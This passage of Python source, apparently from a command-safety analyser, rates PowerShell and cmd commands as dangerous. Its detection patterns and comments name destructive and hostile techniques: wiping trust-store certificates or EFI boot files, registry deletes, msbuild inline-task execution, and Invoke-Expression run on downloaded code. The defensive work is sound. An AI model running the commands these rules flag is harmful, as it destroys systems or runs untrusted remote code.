        lines.append(f"powershell -NoProfile -Command \"Remove-Item -LiteralPath '{path}'{flags}\"")
    for p in _CS_START.finditer(source[:20000]):
        line = _cs_text(p.group(1)) + (" " + _cs_text(p.group(2)) if p.group(2) else "")
        lines.append(line)
    return "\n".join(lines)


# (n13w) .NET compilers: `csc /out:x.exe x.cs` then `x.exe` runs what x.cs says.
DOTNET_COMPILERS = frozenset(("csc", "vbc", "jsc", "csc.exe", "vbc.exe", "jsc.exe"))
COMPILED = "\x00compiled"  # (scope.env: the programs compilers built here, \x01-separated)
# (f18) C/C++ compilers on Windows: `cl w.c & w.exe`, `gcc w.c -o w.exe & w.exe`
NATIVE_COMPILERS = frozenset(
    ("cl", "cl.exe", "clang-cl", "clang-cl.exe", "gcc", "gcc.exe", "g++", "cc", "clang", "clang++")
)
_NATIVE_SOURCES = (".c", ".cpp", ".cc", ".cxx")


def _native_effects(code: str) -> str:
    """(f18) What a C/C++ program's code runs, as cmd lines: its shell strings (`system`,
    exec*) and the folders and files it deletes."""
    from aintern_ls.safety import inline

    fx = inline.code_effects(code, "c")
    lines = [*fx.shell]
    for path, recursive in fx.deletes:
        lines.append(f'rd /s /q "{path}"' if recursive else f'del /f "{path}"')
    return "\n".join(lines)


def compiled_program(cmd: Cmd) -> None:
    """`echo … > p.cs && csc p.cs && p.exe`: the program a .NET compiler builds from source
    this text wrote runs what that source does (judged when run); built from source the
    analyser cannot read, running it is opaque (critical). A library is not run."""
    if cmd.scope.family == "bash":
        return
    out = ""
    sources: list[str] = []
    native = cmd.name in NATIVE_COMPILERS
    for k, w in enumerate(cmd.args):
        t = w.text.strip("\"'")
        low = t.lower()
        if low[:1] in "/-":
            key, _, value = low[1:].partition(":")
            if key in ("out", "o") and value:
                out = t.split(":", 1)[1].strip("\"'")
            elif key in ("target", "t") and value in ("library", "module", "winmdobj"):
                return
            elif native and low[1:3] == "fe" and len(t) > 3:
                out = t[3:].lstrip(":").strip("\"'")  # (f18) cl /Fe:w.exe, /Few.exe
            elif native and low in ("/c", "-c", "-s", "-e"):
                return  # (compile only, assembly, preprocess: no program is built)
            elif native and low == "-o" and k + 1 < len(cmd.args):
                out = cmd.args[k + 1].text.strip("\"'")
            continue
        if low.endswith(_NATIVE_SOURCES if native else (".cs", ".vb", ".js")):
            sources.append(t)
    if not sources:
        return
    exe = out or (
        "a.exe" if native and not cmd.name.startswith("cl") else sources[0].rsplit(".", 1)[0]
    )
    exe = exe if exe.lower().endswith(".exe") else exe + ".exe"
    base = exe.replace("\\", "/").rsplit("/", 1)[-1]
    from aintern_ls.safety.wrappers import remember_unseen

    built = cmd.scope.env.get(COMPILED, "")
    cmd.scope.env[COMPILED] = (built + "\x01" + base.lower()) if built else base.lower()
    from aintern_ls.safety.wrappers import ECHOED_AS_WRITTEN, _file_key

    bodies = [
        _echoed_source(cmd.scope.source, src)
        or cmd.scope.env.get(ECHOED_AS_WRITTEN + _file_key(src).rsplit("/", 1)[-1])
        or written_text(cmd.scope, src)
        for src in sources
    ]
    if any(b is None for b in bodies):
        remember_unseen(cmd.scope, base, "was compiled from source code the analyser cannot read")
        return
    effects = _native_effects if native else dotnet_effects
    cmd.scope.written[base] = (effects("\n".join(b or "" for b in bodies)), -1)
    cmd.scope.unseen.pop(base, None)


def _echoed_source(source: str, name: str) -> str | None:
    """`echo class P{…} > p.cs` in the block's own text (whatever group, `if` or child cmd
    it stands in): what echo wrote into `name`, as written."""
    if "echo" not in source.lower():
        return None
    base = name.replace("/", "\\").rsplit("\\", 1)[-1]
    m = re.search(
        r"(?im)\becho[ \t]+([^\n]{1,4000}?)[ \t]*>[ \t]*\"?(?:[^\s\"<>|&]*[\\/])?"
        + re.escape(base)
        + r"\"?(?=[\s&|)]|\Z)",
        source[:20000],
    )
    return m.group(1) if m is not None else None


def compiled_program_run(cmd: Cmd, head: Word) -> None:
    """`p.exe` (or `p`) after a compiler built p.exe in this text (`compiled_program`)."""
    low = head.text.lower().replace("/", "\\").rsplit("\\", 1)[-1].strip("\"'").rstrip(")")
    base = low if low.endswith(".exe") else low + ".exe"
    if base not in cmd.scope.env.get(COMPILED, "").split("\x01"):
        return
    key = next((k for k in cmd.scope.written if k.lower() == base), None)
    if key is None:
        key = next((k for k in cmd.scope.unseen if k.lower() == base), None)
    if key is not None:
        from aintern_ls.safety.wrappers import written_script

        written_script(cmd, key, Word(key, head.start, head.end))


_INLINE_TASK_CODE = re.compile(r"(?is)<code\b[^>]*>\s*(?:<!\[cdata\[)?(.*?)(?:\]\]>)?\s*</code>")


def inline_tasks_run(cmd: Cmd) -> None:
    """`msbuild t.proj` after this text wrote t.proj with a `CodeTaskFactory` /
    `RoslynCodeTaskFactory` inline task: msbuild compiles and runs the task's code (LOLBAS
    Msbuild): judged as that code."""
    for w in cmd.args:
        if w.text.startswith(("/", "-")):
            continue
        from aintern_ls.safety.wrappers import ECHOED_AS_WRITTEN, _file_key

        key = ECHOED_AS_WRITTEN + _file_key(w.text.strip("\"'")).rsplit("/", 1)[-1]
        text = cmd.scope.env.get(key) or written_text(cmd.scope, w.text)
        if text is None or "taskfactory" not in text.lower():
            continue
        for m in _INLINE_TASK_CODE.finditer(text[:20000]):
            code = m.group(1).replace("&quot;", '"').replace("&lt;", "<").replace("&gt;", ">")
            code = code.replace("&amp;", "&")
            line = dotnet_effects(code)
            if line:
                where = Word(line, cmd.start, cmd.end)
                for f in cmd.scope.nested(line, cmd.scope.family, where, -1):
                    cmd.scope.add(
                        f.level, f.rule, f"msbuild's inline task runs: {f.reason}", f.start, f.end
                    )


def compiled_code(text: str, scope: Scope) -> None:
    """`Add-Type` compiling inline C#/VB that the same text then calls (`[X]::Go()`,
    `New-Object X`): its directory and file deletes and the programs it starts are judged as
    those commands; source only known at run time, then called, is opaque (critical)."""
    for m in _ADD_TYPE.finditer(text[:20000]):
        raw = m.group(1)
        after = text[m.end() : m.end() + 4000].lower()
        if raw.startswith(("$", "(")):
            # a variable this text set to a literal, else source read at run time
            # (`(Get-Content x.cs -Raw)`, `(iwr URL).Content`)
            source = ps_variables(scope).get(raw.lower()) if raw[0] == "$" else None
            if source is None:
                if "]::" in after or "new-object" in after:
                    scope.add(
                        C,
                        "eval-dynamic",
                        "Add-Type compiles source code only known at run time, then runs it",
                        m.start(),
                        m.end(),
                    )
                continue
        elif raw.startswith("@"):
            source = raw[2:-2].strip("\r\n")
        elif raw.startswith("'"):
            source = raw[1:-1].replace("''", "'")
        else:
            source = raw[1:-1]
        if "dllimport" in source.lower():
            _pinvoke_calls(text[m.end() : m.end() + 4000], source, m.start(1), m.end(1), scope)
        classes = [c.lower() for c in re.findall(r"(?i)\b(?:class|module)\s+(\w+)", source)]
        if not any(f"{c}]::" in after or f"new-object {c}" in after for c in classes):
            continue  # compiled but not called here: nothing runs yet
        where = Word(source, m.start(1), m.end(1))
        source = _cs_listed_items(_cs_fold(source))  # (f19: loops over a folder's entries)
        for d in _CS_DELETE.finditer(source):
            path = _cs_text(d.group(2)).replace("'", "''")
            deep = d.group(1).lower() == "directory" and (d.group(3) or "").lower() == "true"
            line = f"Remove-Item -LiteralPath '{path}' -Force" + (" -Recurse" if deep else "")
            scope.include(scope.nested(line, "powershell", where, -1))
        for p in _CS_START.finditer(source):
            line = _cs_text(p.group(1)) + (" " + _cs_text(p.group(2)) if p.group(2) else "")
            scope.include(scope.nested(line, "cmd", where, -1))


# (n14w) a .NET X509Store opened on a machine trust store (`[X509Store]::new('Root',
# 'LocalMachine')`, `New-Object …X509Store([StoreName]::AuthRoot, [StoreLocation]::
# LocalMachine)`, or the store item `Get-Item Cert:\LocalMachine\Root`) and then a Remove /
# RemoveRange on it: what `certutil -delstore Root` does (blocked).
_X509_TRUST = re.compile(
    r"(?i)x509store\b[^;\n]{0,200}?(?:\W|\A)(root|authroot|certificateauthority|ca)['\"\s),]"
    r"[^;\n]{0,120}?localmachine"
    r"|cert:[\\/]*localmachine[\\/]+(root|authroot|ca|certificateauthority)\b"
)
_X509_REMOVE = re.compile(r"(?i)\.remove(?:range)?\s*\(")
# What a `.Remove(` is called on: a variable (`$store`, C#'s `store`) or a closed `( … )`.
_X509_RECEIVER = re.compile(
    r"(?i)(?:\$(?:(?<![\w:])[a-z_][\w:]{0,100}|\{[^}]{0,100}\})|\b[a-z_]\w{0,100}|\))\Z"
)
# `$name =` (or C#'s `var name =`) in the statement the store is made in.
_X509_ASSIGNED = re.compile(r"(?i)(?<![\w:$])(\$?[a-z_][\w:]{0,100})\s{0,20}=(?![=~])")
# A loop before a `.Remove(`: every certificate it walks goes, not one.
_X509_LOOP = re.compile(r"(?i)\bforeach\b|foreach-object|%\s*\{|\bfor\s*\(|\bwhile\s*\(")
_X509_GET_ITEM = re.compile(r"(?i)(?:\$[\w:]{1,100}\s{0,20}=\s{0,20})?\(?\s{0,20}(?:get-item|gi)\s")


# (n17w) `$n = 'Root'; … X509Store($n, $where)`: a store named through variables the same
# text assigns a literal to
_X509_ARGS_VAR = re.compile(r"(?i)x509store\b[^;\n]{0,200}?\$")
_LITERAL_SET = re.compile(r"(?i)\$(\w{1,40})\s{0,20}=\s{0,20}['\"]([\w ]{1,40})['\"]")


def _x509_stores(head: str, raw: str) -> Iterator[tuple[int, str | None, str | None]]:
    """Where a machine trust store is named, and its name: `_X509_TRUST`'s matches, then
    the X509Store constructions whose store or location is a variable holding a literal."""
    seen: set[int] = set()
    for store in _X509_TRUST.finditer(head):
        seen.add(store.start())
        yield store.start(), store.group(1), store.group(2)
    if "$" not in head or _X509_ARGS_VAR.search(head) is None:
        return
    # (the values are read from the text as written: the code view blanks printed strings)
    values = {k.lower(): v for k, v in _LITERAL_SET.findall(raw[:20000])}
    if not values:
        return

    def value(m: re.Match[str]) -> str:
        return (
            "'" + values[m.group(1).lower()] + "'" if m.group(1).lower() in values else m.group(0)
        )

    for made in re.finditer(r"(?i)x509store\b", head):
        end = min(
            x
            for x in (head.find(";", made.start()), head.find("\n", made.start()), len(head))
            if x >= 0
        )
        statement = head[made.start() : end]
        if "$" not in statement:
            continue
        named = _X509_TRUST.match(re.sub(r"(?i)\$(\w+)", value, statement))
        if named is not None and named.group(1) is not None and made.start() not in seen:
            yield made.start(), named.group(1), None


def x509_trust_removed(text: str, scope: Scope, raw: str | None = None) -> None:
    """A machine trust store's certificates removed through .NET: `.Remove(` /
    `.RemoveRange(` called ON the store, i.e. on the variable the opened X509Store (or
    `Get-Item Cert:\\LocalMachine\\Root`, which is one) was assigned to, `$_` of a store piped
    on, or the store expression itself in parentheses. A string's or a list's `.Remove` next
    to a listing of the store removes nothing from it (review 16, finding 4)."""
    head = text[:20000]
    stores: set[str] = set()  # lower-cased variables holding a machine trust store
    piped = False  # a store object (not a listing of its certificates) is made somewhere
    names: dict[str, str] = {}
    last = "Root"
    for n, (at, g1, g2) in enumerate(_x509_stores(head, text if raw is None else raw)):
        if n == 32:
            break
        statement = head[max(head.rfind(c, 0, at) for c in ";\n{}|") + 1 : at]
        if g1 is None and not _X509_GET_ITEM.match(statement.lstrip()):
            continue  # `Get-ChildItem Cert:\LocalMachine\Root`: its certificates, not the store
        piped = True
        last = g1 or g2 or last
        held = _X509_ASSIGNED.search(statement)
        if held is not None:
            var = held.group(1).lower().lstrip("$")
            stores.add(var)
            names[var] = g1 or g2 or last
    if not piped:
        return
    for n, gone in enumerate(_X509_REMOVE.finditer(text)):
        if n == 64:
            break
        receiver = _X509_RECEIVER.search(text, max(0, gone.start() - 200), gone.start())
        if receiver is None:
            continue
        got = receiver.group(0).lower().lstrip("$").strip("{}")
        if got == ")":
            opened = _opening_paren(text, receiver.start(), gone.start() - 400)
            inner = _X509_TRUST.search(text, opened, gone.start()) if opened >= 0 else None
            if inner is None:
                continue
            name = inner.group(1) or inner.group(2)
        elif got in stores:
            name = names[got]
        elif got in ("_", "psitem"):
            name = last
        else:
            continue
        if gone.group(0).lower().startswith(".remove(") and not _X509_LOOP.search(
            text, max(0, gone.start() - 300), gone.start()
        ):
            # `$store.Remove($cert)`: one certificate, outside any loop (critical)
            scope.add(
                C,
                ONE_TRUSTED_CERT,
                f"removes a certificate the whole machine trusts (LocalMachine\\{name})"
                " through .NET",
                gone.start(),
                gone.end(),
            )
            return
        scope.add(
            B,
            "cert-store-wipe",
            f"removes certificates the whole machine trusts (LocalMachine\\{name}) through .NET",
            gone.start(),
            gone.end(),
        )
        return


def _opening_paren(text: str, close: int, floor: int) -> int:
    """Where the `(` matching the `)` at `close` is (-1: not within `floor`)."""
    depth = 0
    for i in range(close, max(floor, 0) - 1, -1):
        c = text[i]
        if c == ")":
            depth += 1
        elif c == "(":
            depth -= 1
            if depth == 0:
                return i
    return -1


def dotnet_registry(text: str, scope: Scope) -> None:
    """The .NET registry API's deletes and writes, judged by the key they reach."""
    keys: dict[str, str | None] = {}  # variables holding a key: its normal form, None unknown
    low = text.lower()
    items: dict[int, str] = {}  # where a provider's key object starts: its normal form
    if "hk" in low and ("get-item" in low or "gi " in low):
        for im in _REG_ITEM.finditer(text[:20000]):
            raw = im.group("path") or im.group("path2") or im.group("path3")
            named = _reg_norm(raw).replace(":", "").rstrip("\\")
            if im.group("var") is not None:
                keys[im.group("var").lower()] = named  # `$k = Get-Item HKLM:\SOFTWARE`
            else:
                items[im.start()] = named
    bases = list(_NET_REG_BASE.finditer(text[:20000]))
    if "add-type" in low:
        bases += _CS_REG_BASE.finditer(text[:20000])
    for start in items:
        if (bm := _ITEM_BASE.match(text, start)) is not None:
            bases.append(bm)
    for m in bases:
        key: str | None
        if m.re is _ITEM_BASE:
            key = items[m.start()]
        elif m.group(3) is not None:
            if m.group(3).lower() not in keys:
                continue
            key = keys[m.group(3).lower()]
        else:
            key = _NET_HIVES[(m.group(1) or m.group(2)).lower()]
        at = m.end()
        if m.re is not _ITEM_BASE and m.group(2) is not None:
            at = _close_paren(text, text.find("(", m.start()) + 1)
        act: tuple[str, str | None, int, int, int] | None = None
        while (step := _NET_REG_STEP.match(text, at)) is not None:
            verb = step.group(1).lower()
            arg = step.group(2) if step.group(2) is not None else step.group(3)
            end = _close_paren(text, step.end())
            if verb in ("opensubkey", "createsubkey"):
                key = _reg_join(key, arg) if key is not None and arg is not None else None
            elif verb in ("deletesubkeytree", "deletesubkey", "deletevalue", "setvalue"):
                act = (verb, arg, step.start(), end, step.end())
                break
            else:
                break
            at = end
        if act is None:
            assign = _NET_REG_ASSIGN.search(text, max(0, m.start() - 80), m.start())
            if assign is not None:
                keys[assign.group(1).lower()] = key
            continue
        verb, arg, start, end, after = act
        if key is None:
            scope.add(
                D,
                "registry-delete" if verb != "setvalue" else "registry",
                "changes a registry key the analyser cannot name",
                start,
                end,
            )
            continue
        if verb in ("deletesubkeytree", "deletesubkey"):
            full = _reg_join(key, arg) if arg is not None else key + "\\*"
            hive, _, rest = full.partition("\\")
            level, rule, reason = hive_key_deleted(hive, rest)
        elif verb == "deletevalue":
            level, rule, reason = registry_value_deleted(_reg_norm(f'{key} /v "{arg or ""}"'))
        else:
            value = text[after : end - 1]
            hit = registry_risk(_reg_norm(f'{key} /v "{arg or ""}" /d {value.strip(" ,")}'))
            level, rule, reason = (
                hit if hit is not None else (M, "registry", "writes a registry value")
            )
        scope.add(level, rule, f"{reason} (.NET registry API)", start, end)
    for m in _NET_REG_STATIC.finditer(text[:20000]):
        # `[Registry]::SetValue('HKEY_LOCAL_MACHINE\\…\\Run', 'x', 'C:\\x.exe')`
        end = _close_paren(text, m.end())
        hit = registry_risk(_reg_norm(text[m.start(1) - 1 : end]).replace(",", " /v ", 1))
        if hit is not None:
            scope.add(hit[0], hit[1], f"{hit[2]} (.NET registry API)", m.start(), end)


def _new_psdrive(cmd: Cmd) -> None:
    """`New-PSDrive -Name R -PSProvider Registry -Root HKLM\\SOFTWARE`: a name for a key,
    only in this session (what is done through it is judged where it is done)."""
    params, positional = _ps_params(cmd)
    name = params.get("name") or params.get("n")
    provider = params.get("psprovider") or params.get("p") or params.get("provider")
    root = params.get("root") or params.get("r")
    rest = iter(positional)
    name = name or next(rest, None)
    provider = provider or next(rest, None)
    root = root or next(rest, None)
    if (
        name is not None
        and provider is not None
        and root is not None
        and provider.text.strip("'\"").lower()
        in ("registry", "microsoft.powershell.core\\registry")
        and not name.dynamic
        and not root.dynamic
    ):
        key = registry_location(cmd.scope, root.text)
        if key is not None:
            cmd.scope.env[_REG_DRIVE + name.text.strip("'\"").lower()] = key
            cmd.scope.env[_REG_ANY] = "1"
            if "persist" not in params:
                return  # (a session's name for a key: nothing changes yet)
    if name is not None and root is not None and not name.dynamic:
        _map_share(cmd, name.text.strip("'\":"), root.text)
    _write_cmdlet(cmd)


_DRIVE_MAP = "\x00drive:"  # (cmd.py's key too) `net use Z: \\host\share`: Z: is that share


def _map_share(cmd: Cmd, drive: str, root: str) -> None:
    """`New-PSDrive Z FileSystem \\\\host\\share`, `net use Z: \\\\host\\share` (in
    PowerShell): the drive names another machine's share from here on (a copy onto it is an
    upload)."""
    root = root.strip("'\"")
    if _UNC.match(root) and drive and drive.replace("_", "").isalnum():
        cmd.scope.env[_DRIVE_MAP + drive.lower() + ":"] = root.rstrip("\\/")


def _share_cwd(cmd: Cmd, text: str) -> bool:
    """A relative path (`.`, `x\\y`) while the working directory is another machine's share
    (`pushd \\\\host\\share`, `Set-Location \\\\host\\share`)."""
    cwds = cmd.scope.cwds
    if None in cwds or not all(c.startswith("//") for c in cwds if c is not None):
        return False
    t = text.strip("'\"")
    return bool(t) and not re.match(r"(?i)[a-z]:|[\\/~$%]", t)


def _share_path(cmd: Cmd, text: str) -> str:
    """`Z:\\x` as the share path a mapped drive stands for; `text` otherwise."""
    t = text.strip("'\"")
    head, colon, rest = t.partition(":")
    if not colon or not head or "\\" in head or "/" in head:
        return text
    mapped = cmd.scope.env.get(_DRIVE_MAP + head.lower() + ":")
    return mapped + "\\" + rest.lstrip("\\/") if mapped is not None else text


# --- a name only known at run time inside a protected Windows folder -------------------
# (aintern_ls/safety/winpaths.py: shared with files.py, which judges bash's `rm` of the same
# folders spelled /mnt/c/Windows/...)
# (n14w) `mountvol S: /s`: the EFI system partition (the boot managers, the BCD store) gets a
# drive letter; deleting anything on that drive afterwards deletes boot files (blocked).
ESP_DRIVE = "\x00esp-drive"


@handles("mountvol", windows_only=True)
def _mountvol(cmd: Cmd) -> None:
    low = [w.text.lower() for w in cmd.args]
    if "/s" in low:
        drive = next((a[0] for a in low if re.fullmatch(r"[a-z]:\\?", a)), None)
        if drive is not None:
            cmd.scope.env[ESP_DRIVE] = drive
        cmd.add(M, "system-config", "mountvol mounts the EFI system partition (the boot files)")
        return
    if any(a in ("/d", "/p", "/r", "/n", "/e") for a in low):
        cmd.add(M, "system-config", "mountvol changes volume mount points")


# (n18w) the same through the Storage cmdlets: `Get-Partition | ? GptType -eq '{c12a7328-…}' |
# Add-PartitionAccessPath -AccessPath Z:\`, `Set-Partition … -NewDriveLetter Z` of the
# partition picked by the EFI system partition's GPT type (or its `System` type).
_ESP_PICKED = re.compile(
    r"(?i)c12a7328-f81f-11d2-ba4b-00a0c93ec93b|\btype\s+-eq\s+['\"]?system\b|\bissystem\b"
)


@handles("add-partitionaccesspath", "set-partition", windows_only=True)
def _partition_letter(cmd: Cmd) -> None:
    low = [w.text.lower().strip("'\"") for w in cmd.args]
    drive = None
    for i, t in enumerate(low[:-1]):
        if t.startswith("-ac") or t.startswith("-newd"):
            m = re.match(r"([a-z])(?::\\?)?\Z", low[i + 1])
            drive = m.group(1) if m else None
    src = cmd.scope.source
    upto = src[max(0, src.rfind("\n", 0, max(cmd.start, 0)) - 2000) : max(cmd.end, 0)]
    if drive is not None and _ESP_PICKED.search(upto[-4000:]):
        cmd.scope.env[ESP_DRIVE] = drive
        cmd.add(M, "system-config", f"{cmd.name} mounts the EFI system partition (the boot files)")
        return
    cmd.add(M, "system-config", f"{cmd.name} changes a partition's drive letter or mount path")


def _protected_unknown_delete(cmd: Cmd, targets: list[Word], verb: str) -> bool:
    esp = (cmd.scope.env.get(ESP_DRIVE) if cmd.scope.env else None) or ""
    for t in targets if esp else ():
        if t.text.strip("'\"").lower().startswith(esp + ":"):
            cmd.add(
                B,
                "rm-system-file",
                f"{verb} files on the EFI system partition mounted at {esp.upper()}: (the boot"
                " managers and the boot store)",
                t,
            )
            return True
    for t in targets:
        folder = protected_unknown_name(t.text)
        if folder is not None:
            cmd.add(
                B,
                "rm-system-file",
                f"{verb} a file only known at run time inside {folder} (every file there is"
                " one Windows needs)",
                t,
            )
            return True
    return False


# cmd.exe's own delete commands, which PowerShell also answers to (as Remove-Item aliases),
# and a cmd switch after them (`/s`, `/q`, `/f`, `/a:h`).
_CMD_DELETES = frozenset({"del", "erase", "rd", "rmdir"})
_CMD_SWITCH = re.compile(r"\A/[A-Za-z](?::\S*)?\Z")


def _cmd_style_delete(cmd: Cmd) -> None:
    """`del /s /q *`, `rd /s /q C:\\` written in a PowerShell block: cmd's syntax in the
    wrong shell (agents and people paste cmd lines into PowerShell, and the block may well
    run in cmd). Judged as cmd would run it too, so a recursive wipe of the folder or a
    drive is not rated as PowerShell's failing call (fail closed, the worse reading wins)."""
    src = cmd.scope.source
    raw = src[cmd.start : cmd.end] if 0 <= cmd.start < cmd.end <= len(src) else ""
    if not raw.lower().startswith(cmd.words[0].text.lower()):
        raw, at = " ".join(w.text for w in cmd.words), -1
    else:
        at = cmd.start
    where = Word(raw, cmd.start, cmd.end)
    cmd.scope.include(cmd.scope.nested(raw, "cmd", where, at))


# `$_`, `$_.PSPath`, `$PSItem.FullName`: the item a ForEach-Object body is given
_PIPED_ITEM = re.compile(r"(?i)\A\$(?:_|psitem)(?:\.(?:pspath|fullname|path|thumbprint))?\Z")


def _piped_trust_store(cmd: Cmd) -> str | None:
    """The machine trust store a listing earlier in this pipeline walks (`Get-ChildItem
    Cert:\\LocalMachine\\Root | … | % { … }`), else None."""
    got = piped_trust_listing(cmd)
    return got[0] if got is not None else None


def _remove_item(cmd: Cmd) -> None:
    params, positional = _ps_params(cmd)
    if "whatif" in params:
        return
    if (
        cmd.scope.family == "powershell"
        and cmd.words[0].text.lower() in _CMD_DELETES
        and any(_CMD_SWITCH.match(w.text) for w in cmd.args)
    ):
        _cmd_style_delete(cmd)
    recursive = _has_param(params, "r", "rec") or any(p in ("rf", "fr") for p in params)
    targets = list(positional)
    for key in ("path", "literalpath", "lp"):
        val = params.get(key)
        if val is not None:
            targets.append(val)
    if not targets and cmd.stdin.paths:
        from aintern_ls.safety.paths import LOG_DIR, LOG_SUBDIR

        # A listing emits the folder's entries: of a log folder, that is its logs (log
        # clearing, critical), not the folder itself.
        targets = [
            Word(w.text.rstrip("\\/") + "\\*", w.start, w.end, w.dynamic, True)
            if (low := w.text.replace("\\", "/").rstrip("/").lower())
            and (LOG_DIR.match(low) or LOG_SUBDIR.match(low))
            else w
            for w in cmd.stdin.paths
        ]
        recursive = True
    elif not targets and cmd.stdin.kind == "static" and cmd.stdin.text.strip():
        # `"$env:SystemRoot" | Remove-Item -Recurse`: piped strings bind to -Path.
        targets = [
            Word(line.strip(), cmd.start, cmd.end, glob=("*" in line or "?" in line))
            for line in cmd.stdin.text.splitlines()[:16]
            if line.strip()
        ]
    elif not targets and cmd.stdin.kind != "none":
        src = cmd.scope.source
        upstream = src[src.rfind("\n", 0, cmd.start) + 1 : cmd.start][-1000:]
        if "cert:" in upstream.lower() and (store := _TRUST_LISTED.search(upstream)):
            # `Get-ChildItem Cert:\LocalMachine\Root | Where-Object Thumbprint -eq X |
            # Remove-Item`: the certificates a filter picks from a machine trust store
            cmd.add(
                C,
                ONE_TRUSTED_CERT,
                "removes certificates the whole machine trusts (LocalMachine\\"
                f"{store.group(1)}) that the pipeline picks",
            )
            return
        cmd.add(D, "delete", "deletes the items piped into it")
        return
    if (
        targets
        and cmd.scope.family == "powershell"
        and all(_PIPED_ITEM.match(t.text) for t in targets)
        and (piped := _piped_trust_store(cmd)) is not None
    ):
        # (n17w) `… Cert:\LocalMachine\Root | Where-Object … | % { Remove-Item $_.PSPath }`:
        # the loop's item is a certificate the listing picks
        cmd.add(
            C,
            ONE_TRUSTED_CERT,
            f"removes certificates the whole machine trusts (LocalMachine\\{piped}) that the"
            " pipeline picks",
        )
        return
    if targets and all(_SESSION_DRIVE.match(t.text.strip("'\",")) for t in targets):
        # `Remove-Item Env:\FOO`, `Alias:\ll`, `Function:\prompt`, `Variable:\x`: the
        # session's own variables, aliases and functions, gone when it ends anyway.
        cmd.add(M, "ps-session-item", "removes a variable, alias or function of this session")
        return
    if trust_store_removed(cmd, _in_cert_location(cmd, targets)):
        return
    reg_known = _REG_ANY in cmd.scope.env
    for t in targets:
        if reg_known and (where := registry_location(cmd.scope, t.text)) is not None:
            # `R:\SYSTEM` on a Registry PSDrive, `CurrentControlSet` in `cd HKLM:\SYSTEM`
            t = Word(where, t.start, t.end, t.dynamic, t.glob, t.origin)
        if _REGISTRY.match(t.text) or _PS_REGISTRY.match(t.text):
            # `Registry::HKEY_LOCAL_MACHINE\X`, `Microsoft.PowerShell.Core\Registry::HKLM\X`
            # and `HKLM:\X` name the same key: judged on one normal form (`hklm\x`).
            norm = _reg_norm(_PS_REGISTRY.sub("", t.text.strip("'\"")))
            key = _REGISTRY.sub("", norm).strip(":\\/")
            # `HKLM:\SYSTEM\*`: every subkey of a key is that key's whole tree
            key = re.sub(r"(?:(?:\A|\\)\*)+\Z", "", key)
            level, rule, reason = hive_key_deleted(norm[:4].rstrip(":\\"), key)
            cmd.add(level, rule, reason, t)
            return
    if _protected_unknown_delete(cmd, targets, "deletes"):
        return
    from aintern_ls.safety.files import _delete_targets

    if not recursive and any(_deep_item(cmd, t) for t in targets):
        # (f19) `foreach ($p in Get-ChildItem C:\Windows -Recurse) { Remove-Item $p }`: each
        # item of a recursive listing in turn, every file of the tree, as when piped
        recursive = True
    _delete_targets(cmd, targets, recursive, "deletes")


_LOOP_ITEM = re.compile(r"(?i)\A\(?\$(\w+)(?:\.(?:fullname|pspath|fullpath|name))?\)?\Z")
DEEP_ITEM = "\x00ps:\x00deep:"  # (f19) a loop variable bound to a recursive listing's items


def _deep_item(cmd: Cmd, target: Word) -> bool:
    """A target that is a loop variable over a recursive listing's items (`$_`, `$p.FullName`)."""
    if not cmd.scope.env or not 0 <= target.start < target.end <= len(cmd.scope.source):
        return False
    m = _LOOP_ITEM.match(cmd.scope.source[target.start : target.end].strip("\"'"))
    return m is not None and DEEP_ITEM + "$" + m.group(1).lower() in cmd.scope.env


def _get_childitem(cmd: Cmd) -> None:
    params, positional = _ps_params(cmd)
    paths = list(positional)
    for key in ("path", "literalpath"):
        v = params.get(key)
        if v is not None:
            paths.append(v)
    filtered = any(k in params for k in ("filter", "include", "exclude", "name"))
    pats = [
        p.strip().strip("'\"")
        for k in ("filter", "include")
        if (v := params.get(k)) is not None
        for p in v.text.split(",")
    ] + [w.text.strip(",") for w in positional if w.text.startswith(",")]  # `*.bak,*.vhd`
    paths = [w for w in paths if not w.text.startswith(",")]
    if (
        pats
        and _has_param(params, "r", "rec")
        and "exclude" not in params
        and (roots := [w for w in paths if re.fullmatch(r"(?i)[a-z]:[\\/]?", w.text)])
        and all(w in roots for w in paths if re.search(r"[:\\/]", w.text))
    ):
        # `gci C:\ -Include *.bak,*.vhd -Recurse`: every such file on the drive.
        cmd.info.paths = tuple(
            Word(w.text.rstrip("\\/") + "\\**\\" + p, w.start, w.end, glob=True)
            for w in roots
            for p in pats
        )
        return
    if not filtered:
        cmd.info.paths = tuple(paths) or (Word(".", cmd.start, cmd.end),)
        if any(p == "r" or p.startswith(("rec", "dep")) for p in params):
            # (f19) every item below the folder, not only its entries
            cmd.info.paths = tuple(
                w._replace(origin=ORIGIN_DEEP) if not w.dynamic and not w.origin else w
                for w in cmd.info.paths
            )
    elif paths and all(
        not w.dynamic
        and (where := classify_path(w.text, cmd.scope.cwds, True)).level >= B
        # `gci * -Include *.csv -Recurse`: in the working directory the filter narrows
        # (deleting what it lists is a named subset, dangerous), as for `find . -name`.
        and where.rule != "rm-cwd"
        for w in paths
    ):
        # `gci C:\Windows -Filter *.dll | Remove-Item`: whatever the filter, what a listing
        # of a system folder, a home or a root emits are files there.
        cmd.info.paths = tuple(paths)


# A redirect the grammar hands a command as an argument (`iex '…' 2>$null`, `*>&1`) (gen12).
_REDIRECT_WORD = re.compile(r"[1-6*]?>>?(?:&[12]|\S+)|[1-6*]>&[12]")


def _invoke_expression(cmd: Cmd) -> None:
    head = cmd.words[0]
    if cmd.stdin.kind == "network":
        cmd.add(C, "pipe-to-shell", "pipes a download straight into Invoke-Expression")
        return
    if cmd.stdin.kind == "static":
        cmd.scope.include(cmd.scope.nested(cmd.stdin.text, "powershell", head, cmd.stdin.start))
        if cmd.stdin.decoded:
            cmd.add(C, "encoded-command", "runs decoded (hidden) text")
        return
    if cmd.stdin.kind != "none":
        cmd.add(C, "eval-dynamic", "Invoke-Expression runs another command's output as code")
        return
    args = [
        w
        for w in cmd.args
        if w.text.lower() not in ("-command", "-c") and not _REDIRECT_WORD.fullmatch(w.text)
    ]
    if not args:
        return
    code = (
        args[0]
        if len(args) == 1
        else Word(" ".join(w.text for w in args), args[0].start, args[-1].end, True)
    )
    text = code.text.lower()
    if re.search(
        r"downloadstring|downloadfile|invoke-webrequest|invoke-restmethod|\biwr\b|"
        r"\birm\b|net\.webclient|http",
        text,
    ):
        cmd.add(C, "remote-code", "Invoke-Expression runs code downloaded from the network", code)
        if not code.dynamic and "\n" in code.text:
            # (n13w) a literal script that only names a URL (an XML namespace in a project
            # it writes) is read as well: what it does locally stands
            cmd.scope.include(cmd.scope.nested(code.text, "powershell", code))
    elif code.dynamic and (read := _read_back(cmd, code.text)) is not None:
